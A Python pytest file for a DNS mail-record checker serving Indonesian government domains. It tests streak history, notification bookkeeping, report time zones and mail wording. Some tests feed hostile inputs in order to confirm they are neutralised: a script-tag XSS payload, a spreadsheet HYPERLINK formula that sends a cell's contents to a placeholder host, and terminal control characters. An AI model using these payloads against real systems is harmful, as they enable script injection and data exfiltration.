"""What the history, the report and the mails say, from reports made in the test (no servers): streaks, what
each reader is owed, escaping, the platform's time zone."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from mailprov.config import load_config

from .helpers import SAMPLE, report_quoting


def test_failing_since_is_the_start_of_the_latest_unbroken_streak(tmp_path: Path) -> None:
    """History alone, with reports made by hand: fail, fail, pass, fail, fail for one domain; an error night
    neither ends a streak nor is news."""
    import datetime as dt

    from mailprov.checks.messages import Reason
    from mailprov.checks.result import CheckReport, CheckResult, DomainResult
    from mailprov.history import History

    def report(day: int, statuses: dict[str, str]) -> CheckReport:
        domains = [DomainResult(domain, None, [CheckResult("mx", status, [Reason("mx.ok", {"hosts": "x"})])])
                   for domain, status in statuses.items()]
        return CheckReport(dt.datetime(2026, 11, day, 2, tzinfo=dt.UTC), "test", domains)

    # e: its server timed out in run 2 (error decides nothing); f: passed, then timed out
    runs = [{"a.go.id": "fail", "b.go.id": "pass", "e.go.id": "fail", "f.go.id": "pass"},
            {"a.go.id": "fail", "b.go.id": "fail", "e.go.id": "error", "f.go.id": "error"},
            {"a.go.id": "pass", "b.go.id": "fail", "e.go.id": "fail"}, {"a.go.id": "fail"},
            {"a.go.id": "fail", "c.go.id": "warn"}]
    with History(tmp_path / "state.db") as history:
        assert history.previous() == {}
        for day, statuses in enumerate(runs, start=1):
            history.store(report(day, statuses))
        # b was last checked in run 3 (failing since run 2); a's streak restarted in run 4; e's error night did
        # not end its streak; f's latest status is error, its last decided one pass
        assert history.previous() == {
            "a.go.id": ("fail", "fail", "2026-11-04T02:00:00Z"), "b.go.id": ("fail", "fail", "2026-11-02T02:00:00Z"),
            "c.go.id": ("warn", "warn", None), "e.go.id": ("fail", "fail", "2026-11-01T02:00:00Z"),
            "f.go.id": ("error", "pass", None)}
        now = report(6, {"a.go.id": "pass", "b.go.id": "fail", "d.go.id": "fail", "e.go.id": "error",
                         "f.go.id": "fail"})
        changes = history.annotate(now)
    # e timing out tonight is no news; f failing is (against its last decided pass, not the error)
    assert changes.fixed == ["a.go.id"] and changes.newly_failing == ["d.go.id", "f.go.id"]
    assert changes.changed == {"a.go.id": ("fail", "pass"), "d.go.id": (None, "fail"), "f.go.id": ("pass", "fail")}
    by_domain = {d.domain: (d.previous_status, d.failing_since) for d in now.domains}
    assert by_domain == {"a.go.id": ("fail", None), "b.go.id": ("fail", "2026-11-02T02:00:00Z"),
                         "d.go.id": (None, "2026-11-06T02:00:00Z"), "e.go.id": ("fail", None),
                         "f.go.id": ("error", "2026-11-06T02:00:00Z")}


def test_what_the_mail_owes_each_reader(tmp_path: Path) -> None:
    """History alone: each reader is owed what changed since the last run that reached it, a domain's runs
    walked back past runs without --notify and past runs that checked only other agencies."""
    import datetime as dt

    from mailprov.checks.messages import Reason
    from mailprov.checks.result import CheckReport, CheckResult, DomainResult
    from mailprov.history import ADMINS, History

    def report(day: int, statuses: dict[str, str]) -> CheckReport:
        domains = [DomainResult(domain, None, [CheckResult("mx", status, [Reason("mx.ok", {"hosts": "x"})])])
                   for domain, status in statuses.items()]
        return CheckReport(dt.datetime(2026, 11, day, 2, tzinfo=dt.UTC), "test", domains)

    with History(tmp_path / "state.db") as history:
        # 1: everyone told; 2: without --notify; 3: a.go.id's agency and the admins not reached, only b checked
        history.mark_notified(history.store(report(1, {"a.go.id": "pass", "b.go.id": "pass"})))
        history.store(report(2, {"a.go.id": "fail", "b.go.id": "fail"}))
        run3 = history.store(report(3, {"b.go.id": "fail"}))
        history.mark_notified(run3, [ADMINS, "b.go.id"])
        owed = history.unannounced(report(4, {"a.go.id": "fail", "b.go.id": "fail", "c.go.id": "warn"}))
    # the admins were last reached by run 1; b's agency too; a's agency by run 1 (run 3 did not check a)
    assert owed.admins.changed == {"a.go.id": ("pass", "fail"), "b.go.id": ("pass", "fail"), "c.go.id": (None, "warn")}
    assert owed.agencies.changed == owed.admins.changed
    with History(tmp_path / "state.db") as history:
        history.mark_notified(history.store(report(4, {"a.go.id": "fail", "b.go.id": "fail"})), ["a.go.id"])
        owed = history.unannounced(report(5, {"a.go.id": "fail", "b.go.id": "fail"}))
    assert owed.admins.changed == {}  # run 4 reached the admins and b's agency, not a's
    assert owed.agencies.changed == {"a.go.id": ("pass", "fail")}
    assert owed.agencies.got_worse("a.go.id") and not owed.agencies.got_worse("b.go.id")
    # run 5: a's agency address refused for good: not owed while it is the contact, owed once corrected
    with History(tmp_path / "state.db") as history:
        history.mark_notified(history.store(report(5, {"a.go.id": "fail"})), refused={"a.go.id": "x@a.go.id"})
        now = report(6, {"a.go.id": "fail"})
        same, corrected = history.unannounced(now, {"a.go.id": "x@a.go.id"}), history.unannounced(now, {})
    assert same.agencies.changed == {} and same.refused == {"a.go.id": "x@a.go.id"}
    assert corrected.agencies.changed == {"a.go.id": ("pass", "fail")} and corrected.refused == {}


def test_the_report_escapes_what_agencies_publish() -> None:
    """Reasons quote TXT records anyone can publish; the report is opened in an operator's browser."""
    import datetime as dt

    from mailprov.report_html import render_report

    report = report_quoting('v=DMARC1; p=<script>alert("x")</script>', agency="<b>pemkot</b>",
                            at=dt.datetime(2026, 11, 28, 19, 0, tzinfo=dt.UTC))
    html = render_report(report, None, [], "id", "Layanan <Mail>", zone="Asia/Jakarta")
    assert "<script>alert" not in html and "&lt;script&gt;alert" in html
    assert "<b>pemkot</b>" not in html and "Layanan &lt;Mail&gt;" in html
    assert "29 November 2026 02.00 WIB" in html  # generated at 19:00 UTC: the next day in Jakarta


def test_the_report_gives_days_and_times_where_the_platform_is() -> None:
    """The 02:00 WIB run is 19:00 UTC the day before: its bar, and a failing streak it began, carry the local day."""
    import datetime as dt
    from dataclasses import replace

    from mailprov.history import RunSummary
    from mailprov.report_html import render_report

    counts = {"domains": 1, "pass": 0, "warn": 0, "error": 0, "fail": 1}
    runs = [RunSummary(i, f"2026-11-{i:02d}T19:00:00Z", counts) for i in range(1, 11)]
    report = report_quoting("v=DMARC1; p=none", at=dt.datetime(2026, 11, 10, 19, 0, tzinfo=dt.UTC))
    report.domains[0] = replace(report.domains[0], failing_since="2026-11-01T19:00:00Z")
    html = render_report(report, None, runs, "id", "Layanan", zone="Asia/Jakarta")
    labels = re.findall(r"<text [^>]*>([^<]+)</text>", html)
    assert labels == ["2026-11-02", "2026-11-11"], labels
    assert "9 hari 0 jam" in html and "2 November 2026 02.00 WIB" in html  # not 2026-11-01T19:00:00Z
    # one run: its day once, not the same label twice on top of itself
    single = render_report(report, None, runs[:1], "id", "Layanan", zone="Asia/Jakarta")
    assert re.findall(r"<text [^>]*>([^<]+)</text>", single) == ["2026-11-02"]


def test_the_csv_keeps_a_published_formula_from_running_in_a_spreadsheet() -> None:
    """A TXT record is anyone's to publish; the operator opens dns.csv in Excel."""
    import csv
    import io

    from mailprov.report import to_csv

    report = report_quoting('=HYPERLINK("http://x.example/?"&A1,"klik")')
    (row,) = list(csv.DictReader(io.StringIO(to_csv(report, "en"))))
    assert row["records"] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")"
    assert not row["reason"].startswith(("=", "+", "-", "@"))
    (plain,) = list(csv.DictReader(io.StringIO(to_csv(report_quoting("v=DMARC1; p=none"), "en"))))
    assert plain["records"] == "v=DMARC1; p=none"  # nothing added where nothing is at risk


def test_mails_quote_published_records_without_their_control_characters() -> None:
    from mailprov.notify import _problems

    (domain,) = report_quoting("v=DMARC1; p=\x1b[2J\x00none").domains
    (line,) = _problems(domain, "en")
    assert "\x1b" not in line and "\x00" not in line and "p=\\x1b[2J\\x00none" in line


@pytest.mark.parametrize(("lang", "heading"), [
    ("id", "Alamat kontak instansi yang ditolak server surat; surat untuknya ditahan sampai contact.email diperbaiki:"),
    ("en", "Agency contact addresses the mail relay refused; their mail is held until contact.email is corrected:"),
])
def test_the_admins_summary_lists_held_agency_addresses(lang: str, heading: str) -> None:
    from mailprov.history import Changes
    from mailprov.notify import admin_mail

    config = load_config(SAMPLE, {})
    report = report_quoting("v=DMARC1; p=none", agency="pemkab-sidoarjo")
    changes = Changes({"a.go.id": (None, "fail")}, ["a.go.id"], [])
    held = {"sidoarjokab.go.id": "kominfo@sidoarjokab.go.id", "tidak-dikenal.go.id": "x@tidak-dikenal.go.id"}
    text = admin_mail(report, changes, config, lang, held).body
    assert f"{heading}\n* sidoarjokab.go.id (pemkab-sidoarjo): kominfo@sidoarjokab.go.id\n" in text
    assert "* tidak-dikenal.go.id (-): x@tidak-dikenal.go.id\n" in text  # an agency no longer in the file
    assert heading not in admin_mail(report, changes, config, lang).body


def test_no_agency_mail_is_held_when_agencies_are_not_written_to() -> None:
    """agency_contacts turned off after a refusal: the summary does not speak of mail held for an agency."""
    from dataclasses import replace

    from mailprov.history import Changes, Owed
    from mailprov.notify import compose

    config = load_config(SAMPLE, {})
    assert config.notify is not None
    report = report_quoting("v=DMARC1; p=none", agency="pemkab-sidoarjo")
    changes = Changes({"a.go.id": (None, "fail")}, ["a.go.id"], [])
    owed = Owed(changes, changes, {"sidoarjokab.go.id": "kominfo@sidoarjokab.go.id"})
    for contacts, listed in ((True, True), (False, False)):
        quiet = replace(config, notify=replace(config.notify, agency_contacts=contacts))
        (admin, *_) = compose(report, owed, quiet, "en")
        assert ("kominfo@sidoarjokab.go.id" in admin.body) is listed


def test_an_error_night_owes_no_mail(tmp_path: Path) -> None:
    """A failing agency whose DNS server timed out one night is not told again the night after."""
    import datetime as dt

    from mailprov.checks.messages import Reason
    from mailprov.checks.result import CheckReport, CheckResult, DomainResult
    from mailprov.history import History

    def report(day: int, status: str) -> CheckReport:
        check = CheckResult("mx", status, [Reason("mx.ok", {"hosts": "x"})])
        domains = [DomainResult("a.go.id", None, [check])]
        return CheckReport(dt.datetime(2026, 11, day, 2, tzinfo=dt.UTC), "test", domains)

    with History(tmp_path / "state.db") as history:
        history.mark_notified(history.store(report(1, "fail")))  # told
        assert history.unannounced(report(2, "error")).agencies.changed == {}  # a timeout is no news
        history.mark_notified(history.store(report(2, "error")))
        owed = history.unannounced(report(3, "fail"))
    assert owed.admins.changed == {} and not owed.agencies.got_worse("a.go.id")  # against run 1's fail, not error


def test_an_agency_whose_domain_does_not_exist_is_told_the_one_thing_to_do() -> None:
    """Its mail does not list four failures, two of them records nobody can publish before the domain exists."""
    from mailprov.checks.messages import Reason
    from mailprov.checks.result import CheckResult, DomainResult
    from mailprov.notify import agency_mail

    config = load_config(SAMPLE, {})
    domain = "sukamaju-tumpang.desa.id"
    missing = [Reason("domain.nxdomain", {"domain": domain})]
    checks = [CheckResult("mx", "fail", missing), CheckResult("spf", "fail", missing),
              CheckResult("dkim", "fail", [Reason("dkim.missing", {"name": f"mmd2026._domainkey.{domain}",
                                                                   "selector": "mmd2026"})], selector="mmd2026"),
              CheckResult("dmarc", "fail", [Reason("dmarc.missing", {"domain": domain, "org_note": "",
                                                                      "expected": "x"})])]
    mail = agency_mail(DomainResult(domain, "desa-sukamaju", checks), config, "id")
    assert mail is not None
    problems = [line for line in mail.body.splitlines() if line.startswith("  - ")]
    assert problems == [f"  - domain: gagal: domain {domain} tidak ada (NXDOMAIN): daftarkan domain, delegasikan ke "
                        "server DNS instansi, lalu terbitkan semua record yang diminta platform"]
    assert f"{domain}. 3600 IN MX 10 mx1.mail.go.id." in mail.body  # the records to publish once it exists
